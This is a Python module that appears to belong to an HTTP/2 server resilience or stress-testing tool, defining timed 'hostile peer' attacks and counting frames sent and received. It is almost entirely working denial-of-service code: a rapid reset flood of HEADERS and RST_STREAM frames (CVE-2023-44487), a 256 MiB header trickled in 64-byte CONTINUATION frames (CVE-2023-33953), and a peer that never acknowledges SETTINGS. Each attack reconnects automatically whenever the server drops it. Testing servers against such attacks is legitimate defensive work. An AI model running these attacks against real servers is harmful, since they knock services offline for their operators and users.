"""What hostile peers do, for a time. Each returns what it did, in numbers."""

import select
import time

import frames
from connection import METHOD, connect, scheme

# The server's SETTINGS are read and never acknowledged unless said otherwise.
_GIANT_STRING = 256 << 20
_SMALL_FRAME = 64


class _Peer:
    """A connection that is opened anew whenever the server closes it."""

    def __init__(self, target, until):
        self._target, self._until = target, until
        self._socket = None
        self.connections = 0
        self.frames_sent = 0
        self.frames_received = 0

    def running(self):
        return time.monotonic() < self._until

    def open(self, acknowledge=True):
        """False, if the server will not have it."""
        self.close()
        try:
            self._socket = connect(self._target)
            self._reader = frames.FrameReader()
            self._acknowledge = acknowledge
            self._socket.sendall(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
            self.connections += 1
            self._socket.settimeout(0.2)
            return self.drain(0.2)
        except OSError:
            self.close()
            return False

    def send(self, content, count):
        """False, if the connection has ended."""
        try:
            self._socket.sendall(content)
            self.frames_sent += count
            return self.drain(0)
        except OSError:
            self.close()
            return False

    def drain(self, seconds):
        """Reads what there is. False, if the connection has ended."""
        while True:
            pending = getattr(self._socket, "pending", lambda: 0)()
            if not pending and not select.select([self._socket], [], [], seconds)[0]:
                return True
            try:
                received = self._socket.recv(1 << 16)
            except TimeoutError:
                return True
            if not received:
                return False
            for kind, flags, _, _ in self._reader.feed(received):
                self.frames_received += 1
                if kind == frames.GOAWAY:
                    return False
                if kind == frames.SETTINGS and not flags & frames.ACK and self._acknowledge:
                    self._socket.sendall(frames.frame(frames.SETTINGS, frames.ACK, 0))
            seconds = 0

    def close(self):
        if self._socket is not None:
            self._socket.close()
        self._socket = None


def rapid_reset(target, until):
    """Calls that are begun and cancelled in one breath, so that no limit of streams is met (CVE-2023-44487)."""
    peer = _Peer(target, until)
    block = frames.request_headers(METHOD, scheme(target))
    while peer.running():
        if not peer.open():
            continue
        stream = 1
        while peer.running():
            burst = b"".join(
                frames.frame(frames.HEADERS, frames.END_HEADERS, stream + 2 * i, block) +
                frames.frame(frames.RST_STREAM, 0, stream + 2 * i, b"\0\0\0\x08") for i in range(100))
            stream += 200
            if not peer.send(burst, 200):
                break
    peer.close()
    return peer


def giant_header(target, until):
    """One header string of 256 MiB, in frames of 64 bytes (CVE-2023-33953)."""
    peer = _Peer(target, until)
    begin = frames.request_headers(METHOD, scheme(target)) + b"\0" + frames.integer(1, 7) + b"a"
    begin += frames.integer(_GIANT_STRING, 7)
    part = frames.frame(frames.CONTINUATION, 0, 1, b"x" * _SMALL_FRAME) * 200
    while peer.running():
        if not peer.open() or not peer.send(frames.frame(frames.HEADERS, 0, 1, begin), 1):
            continue
        while peer.running() and peer.send(part, 200):
            pass
    peer.close()
    return peer


def silent_settings(target, until):
    """A peer that never acknowledges SETTINGS, and changes its own all the time."""
    peer = _Peer(target, until)
    change = b"".join(
        frames.frame(frames.SETTINGS, 0, 0, b"\0\x04" + size.to_bytes(4, "big"))
        for size in (1, 65535) * 50)
    while peer.running():
        if not peer.open(acknowledge=False):
            continue
        while peer.running() and peer.send(change, 100):
            pass
    peer.close()
    return peer


ATTACKS = {"rapid reset": rapid_reset, "giant header": giant_header, "no SETTINGS ACK": silent_settings}
